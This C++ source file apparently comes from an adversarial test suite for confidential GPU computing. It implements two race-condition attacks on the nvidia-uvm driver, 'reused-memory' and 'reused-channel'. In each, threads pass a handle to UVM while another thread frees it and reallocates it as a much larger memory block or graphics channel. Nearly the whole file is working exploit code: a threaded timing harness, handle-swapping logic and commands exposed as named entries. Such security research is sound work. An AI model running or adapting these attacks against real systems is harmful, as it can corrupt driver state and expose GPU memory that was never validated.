// Attacks that hand a handle to nvidia-uvm and give it to something larger meanwhile: what UVM then
// keeps is not what was there when the call was looked at.
#include <atomic>
#include <barrier>
#include <functional>
#include <random>
#include <thread>
#include <utility>

#include "common.h"
#include "rm/vidmem.h"
#include "uvm_client.h"

namespace cgpu::adversary {
namespace {

constexpr std::uint64_t kBase = 0x100000000000;
constexpr std::uint32_t kHandle = 0xcafe0001;
// More than the test's slice: in a slice no attack sees so much less free than at the beginning.
constexpr std::uint32_t kEnoughKib = 1280 * 1024;

// Spaces of UVM, each with an address space of the GPU. All are of one client.
std::vector<UvmClient> MakeSpaces(std::size_t count) {
  std::vector<UvmClient> spaces{MakeUvmClient()};
  while (spaces.size() < count) {
    UvmClient more = spaces[0];
    StartUvm(more);
    rm::NV_VASPACE_ALLOCATION_PARAMETERS_V535 space{};
    space.flags = 1U << 3;  // NV_VASPACE_ALLOCATION_FLAGS_IS_EXTERNALLY_OWNED, nvos.h
    const std::uint32_t handle = 0xcaf20000 + static_cast<std::uint32_t>(spaces.size());
    rm::UVM_REGISTER_GPU_VASPACE_PARAMS params{more.uuid, more.client.ctl, more.client.root, handle,
                                               0};
    if (more.client.Alloc(Client::kDevice, handle, rm::FERMI_VASPACE_A, &space) != rm::NV_OK ||
        more.Ask(rm::UVM_REGISTER_GPU_VASPACE, &params) != rm::NV_OK) {
      Die("failed: no further space");
    }
    spaces.push_back(more);
  }
  return spaces;
}

// Threads that do one thing each in every round, while this thread does another.
class Rounds {
 public:
  // `work`: what thread `index` does in a round.
  Rounds(std::size_t threads, std::function<void(std::size_t index)> work)
      : work_(std::move(work)),
        start_(static_cast<std::ptrdiff_t>(threads) + 1),
        end_(static_cast<std::ptrdiff_t>(threads) + 1) {
    for (std::size_t i = 0; i < threads; ++i) {
      threads_.emplace_back([this, i] { Loop(i); });
    }
  }
  ~Rounds() {
    over_ = true;
    start_.arrive_and_wait();
    for (std::thread& thread : threads_) {
      thread.join();
    }
  }
  Rounds(const Rounds&) = delete;
  Rounds& operator=(const Rounds&) = delete;

  template <class Meanwhile>
  void Play(const Meanwhile& meanwhile) {
    start_.arrive_and_wait();
    meanwhile();
    end_.arrive_and_wait();
  }

 private:
  void Loop(std::size_t index) {
    while (true) {
      start_.arrive_and_wait();
      if (over_) {
        return;
      }
      work_(index);
      end_.arrive_and_wait();
    }
  }

  std::function<void(std::size_t)> work_;
  std::barrier<> start_;
  std::barrier<> end_;
  std::atomic<bool> over_{false};
  std::vector<std::thread> threads_;
};

// Lets the others begin: for some of what a call takes, or not at all.
void Linger(std::mt19937_64& random) {
  const std::uint64_t turns = random() % 4 == 0 ? 0 : random() % 20000;
  for (std::uint64_t i = 0; i < turns; ++i) {
    std::atomic_signal_fence(std::memory_order_seq_cst);
  }
}

// Something small under a handle, which the attack gives to UVM, and something large in its place.
struct Target {
  std::function<bool(std::uint64_t round)> make_small;
  std::function<bool(std::uint64_t round)> make_large;
  std::function<void()> free;
  std::function<std::uint32_t(const UvmClient& space, std::uint64_t round)> hand_over;
  std::function<void(const UvmClient& space, std::uint64_t round)> take_back;
};

// Takes back what UVM keeps of these rounds.
void TakeBack(const std::vector<UvmClient>& spaces, const Target& target,
              std::vector<std::uint64_t>* rounds) {
  for (const std::uint64_t round : *rounds) {
    for (const UvmClient& space : spaces) {
      target.take_back(space, round);
    }
  }
  rounds->clear();
}

// Plays the rounds. Where what is large was charged it is taken back once there is no room left, so
// that only the rest adds up.
int Reuse(const std::vector<UvmClient>& spaces, std::uint64_t rounds, std::uint64_t seed,
          const Target& target) {
  const Client& client = spaces[0].client;
  const std::uint32_t empty = client.FreeKib();
  if (!target.make_large(rounds)) {
    Die("failed: there is no room at all");
  }
  const std::uint32_t large = empty - client.FreeKib();
  target.free();
  std::mt19937_64 random(seed);
  std::atomic<std::uint64_t> round{0};
  std::atomic<std::uint64_t> taken{0};
  std::uint64_t reused = 0;
  std::vector<std::uint64_t> charged;
  {
    Rounds all(spaces.size(), [&](std::size_t i) {
      taken += target.hand_over(spaces[i], round) == rm::NV_OK ? 1 : 0;
    });
    for (; round < rounds; ++round) {
      std::uint32_t before = client.FreeKib();
      if (before + kEnoughKib <= empty) {
        break;
      }
      if (before < 2 * large) {
        TakeBack(spaces, target, &charged);
        before = client.FreeKib();
      }
      if (!target.make_small(round)) {
        break;
      }
      all.Play([&] {
        Linger(random);
        target.free();
        reused += target.make_large(round) ? 1 : 0;
      });
      target.free();
      if (before >= client.FreeKib() + large / 2) {
        charged.push_back(round);
      }
    }
  }
  Say("rounds %llu reused %llu taken %llu", static_cast<unsigned long long>(round.load()),
      static_cast<unsigned long long>(reused), static_cast<unsigned long long>(taken.load()));
  Hold();
  return 0;
}

// ROUNDS THREADS SEED MIB: maps memory in UVM's spaces while its handle goes to larger memory.
int ReusedMemory(const std::vector<std::string>& args) {
  const std::uint64_t rounds = Number(args, 0, 300);
  const std::uint64_t large = Number(args, 3, 64) * kMiB;
  const std::vector<UvmClient> spaces = MakeSpaces(Number(args, 1, 12));
  for (const UvmClient& space : spaces) {
    if (space.CreateRange(kBase, rounds * rm::kPageHuge) != rm::NV_OK) {
      Die("failed: no range of addresses");
    }
  }
  const Client& client = spaces[0].client;
  const auto make = [&client](std::uint64_t bytes) {
    rm::NV_MEMORY_ALLOCATION_PARAMS params = MemoryParams(bytes);
    return client.Alloc(Client::kDevice, kHandle, rm::NV01_MEMORY_LOCAL_USER, &params) == rm::NV_OK;
  };
  return Reuse(spaces, rounds, Number(args, 2, 1),
               {[&](std::uint64_t) { return make(rm::kPageBig); },
                [&](std::uint64_t) { return make(large); }, [&] { (void)client.Free(kHandle); },
                [](const UvmClient& space, std::uint64_t round) {
                  return space.Map(kBase + round * rm::kPageHuge, rm::kPage4K, kHandle);
                },
                [](const UvmClient& space, std::uint64_t round) {
                  (void)space.Unmap(kBase + round * rm::kPageHuge, rm::kPage4K);
                }});
}

// A channel's handle in that round: a space takes each only once.
std::uint32_t Numbered(std::uint64_t round) {
  return 0xcaff0000 + static_cast<std::uint32_t>(round);
}

// ROUNDS THREADS SEED: registers a channel of a copy engine while its handle goes to one of the
// graphics engine, which has large buffers.
int ReusedChannel(const std::vector<std::string>& args) {
  constexpr std::uint32_t kGroup = 0xcafe0002;
  constexpr std::uint64_t kLength = 256 * kMiB;
  const std::vector<UvmClient> spaces = MakeSpaces(Number(args, 1, 12));
  const Client& client = spaces[0].client;
  const auto make = [&client](std::uint32_t engine, std::uint64_t round) {
    rm::NV_CHANNEL_GROUP_ALLOCATION_PARAMETERS group{};
    group.engineType = engine;
    group.hVASpace = UvmClient::kVaSpace;
    rm::NV_CHANNEL_ALLOC_PARAMS_V535 channel{};
    channel.engineType = engine;
    return client.Alloc(Client::kDevice, kGroup, rm::KEPLER_CHANNEL_GROUP_A, &group,
                        sizeof(group)) == rm::NV_OK &&
           client.Alloc(kGroup, Numbered(round), rm::VOLTA_CHANNEL_GPFIFO_A, &channel,
                        sizeof(channel)) == rm::NV_OK;
  };
  return Reuse(spaces, Number(args, 0, 300), Number(args, 2, 1),
               {[&](std::uint64_t round) { return make(rm::NV2080_ENGINE_TYPE_COPY0, round); },
                [&](std::uint64_t round) { return make(rm::NV2080_ENGINE_TYPE_GRAPHICS, round); },
                [&] { (void)client.Free(kGroup); },
                [](const UvmClient& space, std::uint64_t round) {
                  rm::UVM_REGISTER_CHANNEL_PARAMS params{space.uuid,
                                                         space.client.ctl,
                                                         space.client.root,
                                                         Numbered(round),
                                                         kBase + round * kLength,
                                                         kLength,
                                                         0,
                                                         0};
                  return space.Ask(rm::UVM_REGISTER_CHANNEL, &params);
                },
                [](const UvmClient& space, std::uint64_t round) {
                  rm::UVM_UNREGISTER_CHANNEL_PARAMS_V535 params{space.uuid, space.client.root,
                                                                Numbered(round), 0};
                  (void)space.Ask(rm::UVM_UNREGISTER_CHANNEL, &params);
                }});
}

}  // namespace

std::vector<Entry> ReuseAttacks() {
  return {{"reused-memory", ReusedMemory,
           "[ROUNDS [THREADS [SEED [MIB]]]]: maps a handle that goes to larger memory"},
          {"reused-channel", ReusedChannel,
           "[ROUNDS [THREADS [SEED]]]: registers a channel whose handle goes to a larger one"}};
}

}  // namespace cgpu::adversary
